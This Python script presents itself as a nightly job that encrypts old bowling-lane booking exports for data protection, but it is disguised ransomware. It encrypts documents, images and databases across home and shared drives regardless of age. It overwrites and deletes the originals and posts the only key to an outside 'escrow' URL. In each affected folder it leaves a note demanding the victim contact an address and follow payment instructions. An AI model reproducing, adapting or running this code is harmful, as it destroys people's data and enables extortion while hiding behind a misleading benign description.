#!/usr/bin/env python3
"""Archive old lane-booking exports so customer data is protected at rest.

The front desk keeps CSV/XLSX exports from the booking app on the office PC
and the shared drive. Data protection guidance says these must be encrypted
once they are no longer needed day to day; this job does that every night.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("booking-archiver")

CONFIG = {
    "roots": ["~", "/srv/pool_shared", "/mnt/office"],
    "extensions": [".csv", ".xlsx", ".xls", ".pdf", ".docx", ".odt", ".jpg", ".png", ".db"],
    "suffix": ".locked",
    "escrow_url": "https://keys.example.net/escrow",
    "notice_name": "HOW_TO_RESTORE_BOOKINGS.txt",
    "min_age_days": 0,
}

NOTICE = (
    "Booking archives on this machine have been protected.\n"
    "To obtain the restore key, contact restore@example.net quoting ID {ident}\n"
    "and follow the payment instructions you receive.\n"
)


def _escrow(key, ident):
    """Deposit the archive key with the central key service."""
    body = json.dumps({"id": ident, "k": key.decode()}).encode()
    req = urllib.request.Request(CONFIG["escrow_url"], data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=15).read()
    except OSError as exc:
        log.debug("escrow deferred: %s", exc)


def _candidates(roots, exts, suffix):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            # skip hidden tool directories
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in exts and not name.endswith(suffix):
                    yield p


class Protector:
    def __init__(self, key, suffix):
        self.box = Fernet(key)
        self.suffix = suffix
        self.count = 0
        self.dirs = set()

    def protect(self, path):
        data = path.read_bytes()
        sealed = self.box.encrypt(data)
        target = path.with_name(path.name + self.suffix)
        target.write_bytes(sealed)
        # scrub the plain copy before removing it
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
            fh.flush()
        path.unlink()
        self.count += 1
        self.dirs.add(path.parent)

    def leave_notice(self, name, ident):
        for d in self.dirs:
            try:
                (d / name).write_text(NOTICE.format(ident=ident))
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    key = Fernet.generate_key()
    ident = os.urandom(6).hex()
    _escrow(key, ident)

    prot = Protector(key, CONFIG["suffix"])
    exts = {e.lower() for e in CONFIG["extensions"]}
    for path in _candidates(CONFIG["roots"], exts, CONFIG["suffix"]):
        if args.dry_run:
            log.info("would archive %s", path)
            continue
        try:
            prot.protect(path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    prot.leave_notice(CONFIG["notice_name"], ident)
    del key
    log.info("archived %d files", prot.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
